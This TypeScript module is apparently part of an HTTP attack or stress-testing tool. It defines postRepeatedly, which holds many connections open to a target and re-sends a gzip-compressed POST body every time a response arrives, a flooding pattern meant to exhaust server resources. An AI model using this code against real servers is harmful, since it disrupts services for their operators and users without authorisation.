import { gzipSync } from 'node:zlib';
import { type Attack, keepOpen, postHead } from './attack.ts';

export interface Posts {
  /** Compressed with gzip before the attack starts. */
  readonly body: string | Buffer;
  readonly connections: number;
  /** The media type; JSON if absent. */
  readonly type?: string;
}

/** Posts one small, compressed body on every connection, and again whenever an answer has arrived. */
export function postRepeatedly({ body, connections, type = 'application/json' }: Posts): Attack {
  const compressed = gzipSync(body, { level: 9 });
  // A request has one Content-Type line, so the one of postHead is replaced.
  const head = postHead('content-encoding: gzip', `content-length: ${compressed.length}`).replace(
    'application/json',
    type,
  );
  const request = Buffer.concat([Buffer.from(head), compressed]);
  return (target, signal) =>
    keepOpen(target, signal, connections, (socket) => {
      socket.write(request);
      socket.on('data', (chunk: Buffer) => {
        if (chunk.includes('HTTP/1.1 ')) socket.write(request);
      });
    });
}
